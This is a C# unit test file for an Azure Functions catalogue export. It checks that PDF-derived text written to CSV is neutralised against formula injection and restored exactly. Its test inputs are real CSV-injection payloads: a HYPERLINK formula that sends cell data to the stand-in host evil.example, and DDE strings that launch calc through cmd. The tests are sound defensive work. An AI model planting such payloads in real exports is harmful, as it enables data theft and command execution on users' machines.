using System.Text;
using CsvHelper;
using SstcFunctions.FunctionApp.Catalogue;
using SstcFunctions.FunctionApp.Functions;
using SstcFunctions.TestSupport;

namespace SstcFunctions.FunctionApp.Tests;

/// <summary>
/// CSV injection (OWASP): text extracted from an uploaded PDF must reach a spreadsheet as text, never as a formula,
/// and the export must still give the exact text back.
/// </summary>
[Collection(AzuriteCollection.Name)]
public sealed class SpreadsheetSafeExportTests(AzuriteFixture fixture)
{
    /// <summary>Each dangerous first character with a payload of the kind seen in the wild.</summary>
    private static readonly string[] FormulaTexts =
    [
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    public static TheoryData<string> Formulas => new(FormulaTexts);

    [Theory]
    [MemberData(nameof(Formulas))]
    public void Every_formula_prefix_gets_a_leading_quote_and_restores_exactly(string text)
    {
        var cell = SpreadsheetText.Neutralise(text);

        Assert.Equal("'" + text, cell);
        Assert.Equal(text, SpreadsheetText.Restore(cell));
    }

    [Theory]
    [InlineData("Decent work for migrants")]
    [InlineData("")]
    [InlineData("1 = 1 is not a formula in the middle")]
    [InlineData("'quoted at the start but harmless")]
    [InlineData("5-year programme")]
    public void Harmless_text_is_left_as_it_is(string text)
    {
        Assert.Same(text, SpreadsheetText.Neutralise(text));
        Assert.Equal(text, SpreadsheetText.Restore(text));
    }

    [Theory]
    [InlineData("'=1+1")]
    [InlineData("''-2")]
    [InlineData("'")]
    [InlineData("''")]
    public void Text_that_already_starts_with_quotes_round_trips_too(string text)
    {
        var cell = SpreadsheetText.Neutralise(text);

        Assert.False(SpreadsheetText.NeedsEscape(cell.TrimStart('\'')) && cell == text, $"'{cell}' would run as a formula");
        Assert.Equal(text, SpreadsheetText.Restore(cell));
    }

    [Fact]
    public void Every_text_of_the_prefix_alphabet_round_trips()
    {
        // Every string of up to 4 characters over the dangerous prefixes, the quote and a letter: Restore ∘ Neutralise
        // is the identity, and no neutralised cell starts with a formula character.
        const string alphabet = "=+-@\t\r'a";
        var texts = new List<string> { "" };
        for (var length = 1; length <= 4; length++)
        {
            texts.AddRange(texts.Where(t => t.Length == length - 1).SelectMany(t => alphabet.Select(c => t + c)).ToList());
        }
        foreach (var text in texts)
        {
            var cell = SpreadsheetText.Neutralise(text);
            Assert.Equal(text, SpreadsheetText.Restore(cell));
            Assert.False(cell.Length > 0 && SpreadsheetText.FormulaPrefixes.Contains(cell[0]), $"cell starts with a formula character: {cell}");
        }
    }

    [Fact]
    public async Task Csv_export_quotes_and_neutralises_every_formula_cell_and_reads_back_to_the_text()
    {
        await using var app = fixture.NewApp();
        var formulas = FormulaTexts;
        var result = HandBuiltRecords.Result("formulas", formulas.Length, description: ordinal => formulas[ordinal - 1]);
        await app.CommitAsync(HandBuiltRecords.Commit("formulas", result));

        var response = await CatalogueApp.SendAsync(r => app.Function<ListProjectsFunction>().Run(r, CancellationToken.None), "GET",
            "/api/projects?format=csv&brochure=formulas");

        Assert.Equal(200, response.Status);
        var text = Encoding.UTF8.GetString(response.Body);
        foreach (var formula in formulas)
        {
            // OWASP: a leading single quote, and the cell in double quotes.
            Assert.Contains("\"'" + formula.Replace("\"", "\"\""), text);
            Assert.DoesNotContain("," + formula, text);
        }
        using var csv = CsvReader.Create(response.Body, new CsvReaderOptions { Separator = ',' });
        var descriptions = new List<string>();
        while (csv.Read())
        {
            var cell = csv.GetString("description");
            Assert.StartsWith("'", cell);
            descriptions.Add(SpreadsheetText.Restore(cell));
        }
        Assert.Equal(result.Projects.Select(p => p.Description), descriptions);
    }
}
